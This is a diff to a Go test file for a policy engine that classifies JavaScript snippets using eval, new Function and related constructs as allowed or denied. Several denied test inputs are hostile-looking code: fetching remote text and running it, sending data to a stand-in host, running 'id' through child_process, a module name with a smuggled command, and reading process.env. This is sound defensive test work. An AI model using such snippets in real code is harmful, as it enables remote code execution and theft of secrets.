@@ -24,7 +24,8 @@ func TestLibrariesThatBuildCode(t *testing.T) {
 			"load(input)", false},
 		{"a text of the caller", "new Function('a', input.code)(1)", false},
 		{"a text around one of the caller", "new Function('a', `return ${String(input.code)}`)(1)", false},
-		{"a text that arrives", "const r = await fetch('https://example.com'); new Function('a', await r.text())(1)", false},
+		{"a text that arrives", "const r = await fetch('https://example.com'); new Function('a', await " +
+			"r.text())(1)", false},
 		{"a decoded text", "new Function('a', atob(input.code))(1)", false},
 		{"a text without parameters", "function run(s) { return new Function('return ' + s)() } run(input)", false},
 		{"one place for two texts", "function make(s) { return new Function('a', s) } make(input.x + ''); " +
@@ -49,8 +50,87 @@ func TestLibrariesThatBuildCode(t *testing.T) {
 			"const root = input || maybe.x.constructor('return this')(); root.eval(input)", false},
 		{"a test of what a constructor does", "let c; try { c = (() => {}).constructor('return 1')() } catch {}", false},
 		{"a constant text that calls nothing", "new Function('a', 'b', 'return a + b')", false},
-		{"one of two constant texts", "function valid(list) { let text = ''; if (list.length) text = 'if (x < 1) return;'\n" +
+		{"one of two constant texts", "function valid(list) { let text = ''; if (list.length) text = 'if (x < 1) " +
+			"return;'\n" +
 			"return new Function('x', `${text} return true`) } valid(input)", true},
+		{"the global object in the last of some branches", "let root; if (typeof global === 'object') root = global;\n" +
+			"else if (typeof self === 'object') root = self; else root = new Function('return this')(); root.x = 1", true},
+		{"the global object without an alternative", "const root = new Function('return this')(); root.x = 1", false},
+		{"what a branch finds in the global object", "let root; if (typeof global === 'object') root = input;\n" +
+			"else root = new Function('', 'return this')(); root.eval(input.code)", false},
+		{"a power in a branch", "if (input) {} else new Function('return process')().exit()", false},
+		{"a test of what the engine allows", "const jit = (() => { try { return new Function('return false')() } " +
+			"catch { return true } })()", true},
+		{"a test of how functions print", "const f = new Function('a', 'throw new Error()'); try { f() } catch (e) { " +
+			"console.log(e.stack) }", true},
+		{"a test that returns a power", "try { new Function('return fetch')()('https://example.com') } catch {}", false},
+		{"a test that throws what it reads", "new Function('a', 'throw new Error(a.constructor)')(input)", false},
+		{"a test without an alternative", "new Function('return false')()", false},
+		{"a template", "function compile(text) { let source = \"let p = ''\"; text.replace(/x/g, m => { source += \"p " +
+			"+= '\" + m + " +
+			"\"'\" }); source += ';return p'; return new Function('o', 'with (o) {' + source + '}') }\ncompile('a x')", true},
+		{"a template that reads a global", "function compile(text) { let source = 'let p = process'; " +
+			"text.replace(/x/g, m => { source += m }); return new Function('o', source) }\ncompile('a x')", false},
+		{"a template that sends", "function compile(text) { let source = \"fetch('https://e.example/' + o)\"; " +
+			"text.replace(/x/g, m => { source += m }); return new Function('o', source) }\ncompile('a x')", false},
+		{"parts of a constant text that runs code", "const a = 'ev', b = 'al(x)'; new Function('x', 'return ' + a + " +
+			"b)(input)", false},
+		{"a list of lines", "class Plan { constructor(names) { this.names = names } build() { const lines = ['return " +
+			"{'];\n" +
+			"for (const n of this.names) lines.push(n + ': o.' + n + ','); lines.push('}');\n" +
+			"return new Function('o', lines.join('\\n')) } }\nnew Plan(['a']).build()", true},
+		{"a list of lines of the caller", "const lines = ['return {']; new Function('o', " +
+			"input.lines.join('\\n'))(1)", false},
+		{"a list of lines with a power", "const lines = ['return ']; lines.push('process.env');\n" +
+			"new Function('o', lines.join(''))(1)", false},
+		{"a text that a function is given", "function make(s) { return new Function('a', s) } make(input.code)(1)", false},
+		{"a text that a variable is given", "const { code } = input; const text = code; new Function('a', text)(1)", false},
+		{"a text that an arrow function is given", "const make = (s) => new Function('a', '(' + s + ')'); " +
+			"make(input.code)(1)",
+			false},
+		{"eval of an engine that nothing asks for", "const engines = {}; engines.json = { parse: JSON.parse };\n" +
+			"engines.javascript = { parse: function parse(s) { s = '(' + s.trim() + ')'; return eval(s) } };\n" +
+			"export default function front(text, lang = 'json') { return engines[lang].parse(text) }", true},
+		{"eval of an engine that runs the caller's text", "const engines = {};\n" +
+			"engines.js = { parse: function (s) { return eval('(' + s + ')') } };\nengines.js.parse(input.code)", false},
+		{"eval of an engine with a text in it", "const engine = { parse(s) { return eval('(' + s + ')') } };\n" +
+			"engine.parse('process.exit()')", false},
+		{"eval of what an engine decodes", "export const engine = { parse(s) { s = '(' + atob(s) + ')'; return " +
+			"eval(s) } }\n" +
+			"engine.parse('x' + Date.now())", false},
+		{"eval that is certain", "function run(s) { return eval('(' + s + ')') } run('1' + Date.now())", false},
+		{"a class of functions", "class Made extends Function { constructor(...all) { const text = all[all.length - 1];\n" +
+			"super(...all.slice(0, -1), text) } }\nexport const make = (name) => new Made('o', 'return o.' + name)", true},
+		{"a class of functions that runs any text", "class Made extends Function { constructor(...all) { " +
+			"super(...all) } }\n" +
+			"new Made('return 1')()", false},
+		{"a class of functions with a constant text", "class Made extends Function { constructor(a, b) { super(a, b) " +
+			"} }\n" +
+			"new Made('o', 'return o.constructor')(input)", false},
+		{"a class of functions of the caller's text", "class Made extends Function { constructor(a, b) { super(a, b) " +
+			"} }\n" +
+			"new Made('o', input.code)(1)", false},
+		{"a class of functions of a text of its own", "class Made extends Function { constructor() { super('o', " +
+			"'return process') " +
+			"} }\nnew Made()()", false},
+		{"a module in place of what may be missing", "const load = name => { try { return " +
+			"process.getBuiltinModule(name) } " +
+			"catch {}\ntry { return Function('return require(\"' + name + '\")')() } catch {} }; load('util')", true},
+		{"a module that runs commands", "const load = name => { try { return Function('return require(\"' + name + " +
+			"'\")')() } " +
+			"catch {} }; load('child_process').execSync('id')", false},
+		{"a module that the caller names", "try { Function('return require(\"' + input.name + '\")')() } catch {}", false},
+		{"a module and a command", "const load = name => { try { return Function('return require(\"' + name + '\")')() } " +
+			"catch {} }; load('child_process\").exec(\"id')", false},
+		{"a handler that may be text", "const later = (f, ms) => { const run = typeof f === 'function' ? f : " +
+			"Function(f);\n" +
+			"return setTimeout(() => run(), ms) }; later(() => 1, 5)", true},
+		{"a handler that is text", "const later = (f) => { const run = typeof f === 'function' ? f : Function(f);\n" +
+			"run() }; later('process.exit()')", false},
+		{"a handler of the caller", "const later = (f) => { const run = typeof f === 'function' ? f : Function(f);\n" +
+			"run() }; later(input.code)", false},
+		{"a handler that is decoded", "const later = (f) => { const run = typeof f === 'function' ? f : Function(f);\n" +
+			"run() }; later(atob(input.code))", false},
 		{"code behind a constant test", "function fast(o) { if (1) return o; (0, eval)(o) } fast(input)", true},
 		{"code behind a test that fails", "function fast(o) { if (0) return o; (0, eval)(o) } fast(input)", false},
 		{"a key that is guarded", "const own = o => '__proto__' in o ? { ['__proto__']: void 0 } : {};\n" +
@@ -74,9 +154,15 @@ func TestTokensOfLibraries(t *testing.T) {
 	set := policy.Default()
 	for code, allowed := range map[string]bool{
 		"a b c ({ eval(e, { f } = {}) { return e.constructor.name } }": true,
-		"a b c ( eval(e)\n{ }":                     false,
-		"a b c ( eval(e)":                          false,
-		"a b c ( e.constructor.constructor('x')()": false,
+		"a b c ( eval(e)\n{ }":                                       false,
+		"a b c ( vm.createHash(e); vm.createHmac(e)":                 true,
+		"a b c ( vm.runInNewContext(e)":                              false,
+		"a b c ( vm.constructor.constructor(e)":                      false,
+		"a b c ( ({ __proto__: null, a }); ({ a, __proto__: null })": true,
+		"a b c ( o.__proto__.a = 1; o.__proto__.b = 2":               false,
+		"a b c ( o[x ? __proto__ : a]; ({ [a.__proto__]: b })":       false,
+		"a b c ( eval(e)":                                            false,
+		"a b c ( e.constructor.constructor('x')()":                   false,
 	} {
 		if d := set.Decide(policy.Request{Code: code}); (d.Effect == policy.Allow) != allowed || !d.Analysis.Unanalysed {
 			t.Errorf("%s: allowed %t: %+v", code, !allowed, d.Analysis)
